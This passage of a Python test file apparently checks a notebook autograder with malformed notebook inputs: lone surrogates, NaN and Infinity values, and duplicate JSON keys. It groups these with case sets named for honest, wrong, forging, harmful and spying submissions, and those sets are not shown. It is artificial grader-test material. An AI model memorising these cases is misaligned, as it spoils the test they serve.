    Behaviour("hands in lone surrogates", file=_rewrite(lambda text: text.replace("Why is ELU better?", "\\ud800\\udfff\\u0000").encode())),
    Behaviour("hands in NaN and Infinity", file=_rewrite(lambda text: text.replace('"nbformat_minor": 5', '"nbformat_minor": NaN, "x": -Infinity').encode())),
    Behaviour("repeats keys", file=_rewrite(lambda text: text.replace('"nbformat": 4', '"nbformat": 4, "nbformat": 4, "cells_": []').encode())),
)  # fmt: skip

BEHAVIOURS = (*HONEST, *WRONG, *FORGING, *HARM, *SPYING, *CHANGED, *FILES)


def source_for(behaviour: Behaviour, root: Path) -> dict[str, str]:
    """The answers of a row, for a course in a folder."""
    return {name: source.replace("{root!r}", repr(str(root))) for name, source in behaviour.answers.items()}


def as_text(notebook: dict[str, Any]) -> str:
    """A notebook as a student's editor would write it."""
    return json.dumps(notebook, indent=1)
